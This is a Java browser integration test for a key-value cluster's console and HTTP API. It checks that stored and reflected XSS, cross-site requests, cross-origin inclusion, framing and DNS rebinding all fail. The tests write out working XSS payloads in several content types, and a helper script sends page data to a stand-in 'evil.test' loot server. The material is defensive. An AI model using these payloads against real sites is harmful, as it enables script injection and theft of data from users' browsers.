package io.quorate.deploy.console;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quorate.deploy.cluster.KvClient;
import io.quorate.deploy.cluster.LocalCluster;
import io.quorate.deploy.cluster.LocalNode;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.ext.web.client.HttpRequest;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Attacks through a user's browser: stored scripts, pages of other sites, and a name that is made to point to a node.
 * Each is first tried on a site that allows it, so that a script that never runs anywhere proves nothing.
 */
@Tag("browser")
final class ForeignPagesIT {
    /** Names that the browser resolves to this machine. */
    private static final String EVIL = "evil.test";

    private static final String REBOUND = "rebound.test";

    @RegisterExtension
    @Order(1)
    static final Browser BROWSER =
            new Browser("--host-resolver-rules=MAP " + EVIL + " 127.0.0.1, MAP " + REBOUND + " 127.0.0.1");

    @RegisterExtension
    @Order(2)
    static final LocalCluster CLUSTER = LocalCluster.ofThree();

    private final KvClient client = CLUSTER.client();
    private final LocalNode node = CLUSTER.node(1);
    private final String api = "http://127.0.0.1:" + node.httpPort();
    private final ForeignSite site = new ForeignSite(0);

    @AfterEach
    void close() {
        BROWSER.visit("about:blank");
        site.close();
    }

    /** What a script does that got a foot in the door. */
    private String script(String name) {
        return "document.title = 'ran'; new Image().src = '" + site.lootUrl() + "/" + name + "';"
                + "fetch('/v1/cluster').then((r) => r.text()).then((t) => fetch('" + site.lootUrl()
                + "/' + t.length));";
    }

    private record Stored(String name, String contentType, String body, boolean runsElsewhere) {}

    private List<Stored> scriptsOfEveryType() {
        String html = "<!doctype html><p>stored</p><script>" + script("html") + "</script><img src=x onerror=\""
                + script("handler").replace("\"", "&quot;") + "\">";
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>"
                + script("svg").replace("=>", "=&gt;") + "</script></svg>";
        String xhtml = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>stored<script>"
                + script("xhtml").replace("=>", "=&gt;") + "</script></body></html>";
        String xslt = "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?><stored/>";
        String frame = "<!doctype html><iframe src=\"svg\"></iframe><object data=\"html\"></object>"
                + "<script src=\"js\"></script><meta http-equiv=refresh content=\"0;url=/\">";
        List<Stored> all = new ArrayList<>();
        all.add(new Stored("html", "text/html; charset=utf-8", html, true));
        all.add(new Stored("upper", "TEXT/HTML", html, true));
        all.add(new Stored("svg", "image/svg+xml", svg, true));
        all.add(new Stored("xhtml", "application/xhtml+xml", xhtml, true));
        all.add(new Stored("js", "application/javascript", script("js"), false));
        all.add(new Stored("json", "application/json", "{\"stored\": \"" + html.replace("\"", "'") + "\"}", false));
        all.add(new Stored("xml", "text/xml", xhtml, true));
        all.add(new Stored("xslt", "text/xml", xslt, false));
        all.add(new Stored("style.xsl", "text/xsl", styleSheet(), false));
        all.add(new Stored("untyped", "", html, false));
        all.add(new Stored("binary", "application/octet-stream", html, false));
        all.add(new Stored("wrong", "text/plain", html, false));
        all.add(new Stored("unknown", "x/y", html, false));
        all.add(new Stored(
                "multipart",
                "multipart/x-mixed-replace; boundary=b",
                "--b\r\nContent-Type: text/html\r\n\r\n" + html + "\r\n--b--",
                false));
        all.add(new Stored("parts", "text/html", frame, true));
        return all;
    }

    private String styleSheet() {
        return "<?xml version=\"1.0\"?><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                + "<xsl:output method=\"html\"/><xsl:template match=\"/\"><html><body><script>"
                + script("xslt").replace("=>", "=&gt;") + "</script></body></html></xsl:template></xsl:stylesheet>";
    }

    @Test
    void noStoredScriptRunsWhenItsValueIsOpened() {
        List<Stored> scripts = scriptsOfEveryType();
        for (Stored each : scripts) {
            site.put("/" + each.name(), each.contentType(), each.body());
            store(each);
        }
        scripts.stream().filter(Stored::runsElsewhere).forEach(this::runsOnASiteThatAllowsIt);
        int before = settledLoot();
        for (Stored each : scripts) {
            BROWSER.visit("about:blank");
            BROWSER.visit(api + "/v1/kv/scripts/" + each.name());
            assertFalse(BROWSER.source().contains("Nothing was applied"), each.name() + " was opened");
            assertFalse(BROWSER.title().contains("ran"), each.name());
        }
        assertEquals(before, settledLoot(), () -> "a stored script ran: " + site.loot());
    }

    /** The same in a page of the errors that quote what somebody sent. */
    @Test
    void noTextOfARequestRunsInAnAnswer() {
        for (String path : List.of(
                "/v1/kv/a?%3Cscript%3Edocument.title='ran'%3C/script%3E",
                "/%3Cscript%3Edocument.title='ran'%3C/script%3E",
                "/console/%3Cscript%3Edocument.title='ran'%3C/script%3E",
                "/v1/cluster",
                "/metrics",
                "/openapi.yaml",
                "/health/live",
                "/v1/slow")) {
            BROWSER.visit(api + path);
            assertFalse(BROWSER.title().contains("ran"), path);
            // The page has an origin of its own, and reads nothing of this one.
            assertEquals("null", BROWSER.run("return self.origin"), path);
            assertTrue(BROWSER.run("return (await fetch('/v1/cluster')).status").startsWith("threw"), path);
        }
    }

    private void store(Stored each) {
        HttpRequest<Buffer> put = client.request(HttpMethod.PUT, node, KvClient.kv("scripts/" + each.name()));
        if (!each.contentType().isEmpty()) {
            put.putHeader("Content-Type", each.contentType());
        }
        int status = client.send(put, Buffer.buffer(each.body())).statusCode();
        assertTrue(status < 300, each.name() + " is stored");
    }

    private void runsOnASiteThatAllowsIt(Stored each) {
        BROWSER.visit("about:blank");
        int before = site.loot().size();
        BROWSER.visit("http://" + EVIL + ":" + site.port() + "/" + each.name());
        await(each.name()).until(() -> site.loot().size() > before);
    }

    /** How often scripts have brought something, after the site has seen all that pages sent before. */
    private int settledLoot() {
        BROWSER.visit("about:blank");
        BROWSER.visit("http://" + EVIL + ":" + site.port() + "/");
        BROWSER.run("await fetch('" + site.lootUrl() + "/end'); return 1");
        long ends = site.loot().stream().filter("end"::equals).count();
        return (int) (site.loot().size() - ends);
    }

    /** Another port of this machine is the same site for a browser, and a name of its own is another one. */
    private List<String> foreignPages() {
        return List.of("http://localhost:" + site.port() + "/", "http://" + EVIL + ":" + site.port() + "/");
    }

    @Test
    void aForeignPageStoresNothing() {
        String batch = "{\"operations\": [{\"op\": \"put\", \"key\": \"forged/batch\", \"value\": \"=\"}]}";
        for (String page : foreignPages()) {
            BROWSER.visit(page);
            for (String host : List.of("127.0.0.1", "localhost")) {
                String url = "http://" + host + ":" + node.httpPort();
                String answer = BROWSER.run("const f = (path, init) => fetch('" + url + "' + path, init)"
                        + ".then((r) => r.type + r.status, () => 'failed');"
                        + "const body = '" + batch + "';"
                        + "return [await f('/v1/batch', {method: 'POST', mode: 'no-cors', body}),"
                        + " await f('/v1/batch', {method: 'POST', body}),"
                        + " await f('/v1/batch', {method: 'POST', headers: {'Content-Type': 'application/json'}, body}),"
                        + " await f('/v1/kv/forged/put', {method: 'PUT', body}),"
                        + " await f('/v1/kv/kept', {method: 'DELETE'}),"
                        + " await f('/v1/kv/kept', {mode: 'no-cors'}),"
                        + " await f('/v1/kv/kept', {}),"
                        + " await f('/', {}),"
                        + " String(navigator.sendBeacon('" + url + "/v1/batch', body))].join()");
                // Without CORP an opaque answer would arrive, though no script could read it.
                assertEquals("failed,failed,failed,failed,failed,failed,failed,failed,true", answer, page);
            }
            assertEquals(
                    "failed",
                    BROWSER.run("return await new Promise((done) => {"
                            + "const events = new EventSource('" + api + "/v1/events');"
                            + "events.onerror = () => done('failed'); events.onmessage = () => done('read');"
                            + "events.addEventListener('hello', () => done('read')); });"));
            submitAForm(page, batch);
        }
        assertEquals(404, client.get(node, "forged/batch").statusCode());
        assertEquals(404, client.get(node, "forged/put").statusCode());
    }

    /** An HTML form can send any text: here a batch whose last value takes the form's equals sign. */
    private void submitAForm(String page, String batch) {
        BROWSER.visit(page);
        String[] around = batch.split("=");
        BROWSER.run("const form = document.createElement('form'); form.method = 'POST'; form.enctype = 'text/plain';"
                + "form.action = '" + api + "/v1/batch'; const field = document.createElement('input');"
                + "field.name = '" + around[0] + "'; field.value = '" + around[1] + "'; form.append(field);"
                + "document.body.append(form); setTimeout(() => form.submit()); return 1");
        BROWSER.awaitRun("the answer", "return document.body?.textContent ?? ''", "\"status\" : 403");
    }

    @Test
    void aForeignPageReadsNoValueAsAScriptOrAStyleOrAnImage() {
        List<Stored> values = List.of(
                new Stored("leak.js", "application/javascript", "window.leaked = 'secret';", true),
                new Stored("leak.json", "application/json", "window.leaked = 'secret';", false),
                new Stored("leak.txt", "text/plain", "window.leaked = 'secret';", false),
                new Stored("leak", "", "window.leaked = 'secret';", false));
        values.forEach(this::store);
        site.put("/leak.js", "application/javascript", values.get(0).body());
        for (String page : foreignPages()) {
            BROWSER.visit(page);
            assertEquals("ran secret", asScript("/leak.js"), "a script of the site's own runs");
            for (Stored each : values) {
                BROWSER.visit(page);
                assertEquals("refused undefined", asScript(api + "/v1/kv/scripts/" + each.name()), each.name());
                assertEquals("refused undefined", asScript(api + "/v1/kv/scripts/" + each.name(), "crossOrigin"));
            }
            assertEquals("refused", loads("link", "href", api + "/console/css/base.css"));
            assertEquals("refused", loads("img", "src", api + "/console/icon.svg"));
            assertEquals("refused undefined", asScript(api + "/v1/cluster"));
            assertEquals("refused undefined", asScript(api + "/console/js/theme-first.js"));
        }
    }

    private static String asScript(String url, String... attributes) {
        StringBuilder more = new StringBuilder();
        for (String attribute : attributes) {
            more.append("script.").append(attribute).append(" = '';");
        }
        return BROWSER.run("const script = document.createElement('script');" + more + "script.src = '" + url + "';"
                + "const end = await new Promise((done) => { script.onload = () => done('ran');"
                + " script.onerror = () => done('refused'); document.head.append(script); });"
                + "return end + ' ' + window.leaked;");
    }

    private static String loads(String element, String attribute, String url) {
        return BROWSER.run("const part = document.createElement('" + element + "'); part.rel = 'stylesheet';"
                + "part." + attribute + " = '" + url + "';"
                + "return await new Promise((done) => { part.onload = () => done('loaded');"
                + " part.onerror = () => done('refused'); document.head.append(part); });");
    }

    @Test
    void aForeignPageNeitherFramesNorReadsTheConsole() {
        for (String page : foreignPages()) {
            BROWSER.visit(page);
            String read = BROWSER.run("const frame = document.createElement('iframe'); frame.src = '" + api + "/';"
                    + "await new Promise((done) => { frame.onload = done; document.body.append(frame); });"
                    + "try { return frame.contentWindow.document.title; } catch (e) { return e.name; }");
            assertTrue(List.of("SecurityError", "null", "").contains(read) || read.startsWith("threw"), read);
            BROWSER.inFrame(() -> assertFalse(BROWSER.source().contains("id=\"pages\""), "the console is framed"));
        }
    }

    /** The console is open to links, and is then a page of its own with all its rights. */
    @Test
    void aLinkOnAForeignPageOpensTheConsole() {
        for (String page : foreignPages()) {
            BROWSER.visit(page);
            BROWSER.log();
            BROWSER.run("setTimeout(() => { location.href = '" + api + "/'; }); return 1");
            BROWSER.awaitHeard(3, 3);
            assertEquals(List.of(), BROWSER.log());
        }
    }

    @Test
    void evenTheConsoleRunsNoStoredValue() {
        store(new Stored("gadget.js", "application/javascript", "window.leaked = 'secret';", true));
        BROWSER.open(api + "/", 3);
        String url = "/v1/kv/scripts/gadget.js";
        assertTrue(asScript(url).contains("TrustedScriptURL"), "no script is named by a text");
        assertEquals(
                "failed undefined",
                BROWSER.run("return await import('" + url + "')"
                        + ".then(() => 'ran', () => 'failed') + ' ' + window.leaked"));
        assertTrue(BROWSER.run("return await navigator.serviceWorker.register('" + url + "')")
                .startsWith("threw"));
        assertTrue(BROWSER.run("document.body.innerHTML = '<p>'; return 1").contains("TrustedHTML"));
        assertEquals("200", BROWSER.run("return (await fetch('" + url + "')).status"), "a script of its own reads it");
    }

    /** The page was loaded while its name led to another server. Then the name was made to point to a node. */
    @Test
    void aPageWhoseNameIsMadeToPointToANodeReadsAndStoresNothing() {
        LocalNode n3 = CLUSTER.node(3);
        client.put(node, "secret", "s3cret");
        n3.kill();
        try (ForeignSite attacker = new ForeignSite(n3.httpPort())) {
            BROWSER.visit("http://" + REBOUND + ":" + attacker.port() + "/");
            assertEquals("200", BROWSER.run("return (await fetch('/')).status"));
        } finally {
            CLUSTER.startAndAwaitReady(n3);
        }
        String ask = "const r = await fetch('%s', %s); return r.status + await r.text();";
        for (String[] each : new String[][] {
            {"/v1/kv/secret", "{}"},
            {"/v1/cluster", "{}"},
            {"/metrics", "{}"},
            {"/", "{}"},
            {"/v1/kv/rebound", "{method: 'PUT', body: 'x'}"},
            {"/v1/kv/secret", "{method: 'DELETE'}"},
            {"/v1/batch", "{method: 'POST', body: '{}'}"},
        }) {
            String answer = BROWSER.run(ask.formatted(each[0], each[1]));
            assertTrue(answer.startsWith("403") && answer.contains("httpNames"), answer);
            assertFalse(answer.contains("s3cret"), answer);
        }
        BROWSER.visit("http://" + REBOUND + ":" + n3.httpPort() + "/");
        assertTrue(BROWSER.source().contains("httpNames"), BROWSER.source());
        assertEquals("s3cret", client.get(node, "secret").bodyAsString());
        assertEquals(404, client.get(node, "rebound").statusCode());
    }
}
